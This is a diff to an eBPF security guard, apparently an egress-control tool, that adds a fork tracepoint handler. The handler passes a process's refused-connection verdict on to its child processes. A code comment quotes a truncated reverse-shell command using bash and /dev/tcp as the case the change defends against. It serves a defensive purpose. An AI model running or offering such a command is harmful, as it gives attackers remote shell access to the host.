@@ -267,3 +267,29 @@ int guard_exec(struct bpf_raw_tracepoint_args *ctx)
 	event_output(&s->ev, size);
 	return 0;
 }
+
+/*
+ * A process a detection refused its connects (eg_proc_verdicts) passes the
+ * refusal on to every process it forks: `bash -c 'bash -i >& /dev/tcp/...'`
+ * connects from a child. Threads share the entry of their thread group.
+ * Arguments: (struct task_struct *parent, struct task_struct *child).
+ */
+SEC("raw_tp/sched_process_fork")
+int guard_fork(struct bpf_raw_tracepoint_args *ctx)
+{
+	struct task_struct *parent = (struct task_struct *)ctx->args[0];
+	struct task_struct *child = (struct task_struct *)ctx->args[1];
+	struct guard_proc_verdict *verdict, inherited = {};
+	__u32 parent_tgid = BPF_CORE_READ(parent, tgid);
+	__u32 child_tgid = BPF_CORE_READ(child, tgid);
+
+	if (child_tgid == parent_tgid)
+		return 0; /* a new thread */
+	verdict = bpf_map_lookup_elem(&eg_proc_verdicts, &parent_tgid);
+	if (!verdict || verdict->start_ns != BPF_CORE_READ(parent, group_leader, start_boottime))
+		return 0;
+	inherited.action = verdict->action;
+	inherited.start_ns = BPF_CORE_READ(child, start_boottime);
+	bpf_map_update_elem(&eg_proc_verdicts, &child_tgid, &inherited, BPF_ANY);
+	return 0;
+}
